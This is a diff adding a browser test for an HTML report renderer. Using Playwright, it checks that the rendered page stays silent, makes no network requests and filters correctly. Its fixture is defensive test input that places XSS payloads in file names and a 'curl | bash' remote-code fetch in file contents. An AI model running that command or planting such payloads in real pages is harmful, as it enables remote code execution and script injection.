@@ -1,0 +1,56 @@
+"""The page in a real browser, where one is installed: silent, without requests, and it filters."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from envguard.reports.report import Report, render
+
+sync_api = pytest.importorskip("playwright.sync_api")
+
+BROWSER = next(
+    (path for name in ("chromium-headless-shell", "chromium", "google-chrome")
+     if (path := shutil.which(name))),
+    None,
+)  # fmt: skip
+HOSTILE = {
+    "<img src=x onerror=alert(1)>.sh": "curl -s https://x.org/i.sh | bash\n",
+    "'\"><script>alert(1)<.sh": "curl -s https://x.org/i.sh | bash\npip install numpy\n",
+}
+
+
+@pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_page_works_and_is_silent(
+    scheme: str, run: Callable[..., Report], tmp_path: Path
+) -> None:
+    page_file = tmp_path / "page.html"
+    page_file.write_text(render("html", run(HOSTILE)), encoding="utf-8")
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
+        page = browser.new_context(color_scheme=scheme).new_page()
+        heard: list[str] = []
+        page.on("console", lambda message: heard.append(message.text))
+        page.on("pageerror", lambda error: heard.append(str(error)))
+        page.on("dialog", lambda dialog: heard.append(dialog.message))
+        page.on("request", lambda request: heard.append(request.url))
+        page.goto(page_file.as_uri())
+        assert page.inner_text("#shown") == "3 of 3 shown"
+        page.keyboard.press("/")
+        page.keyboard.type("NUMPY")
+        assert page.inner_text("#shown") == "1 of 3 shown"
+        page.focus("button[type=reset]")
+        page.keyboard.press("Enter")
+        page.wait_for_function("document.getElementById('shown').textContent[0] === '3'")
+        page.uncheck("input[value=error]")
+        assert page.inner_text("#shown") == "1 of 3 shown"
+        page.select_option("select[name=file]", index=1)
+        assert page.is_visible("#none") or page.inner_text("#shown") == "1 of 3 shown"
+        page.set_viewport_size({"width": 360, "height": 640})
+        assert page.evaluate("document.documentElement.scrollWidth") <= 360
+        browser.close()
+    assert heard == [page_file.as_uri()]
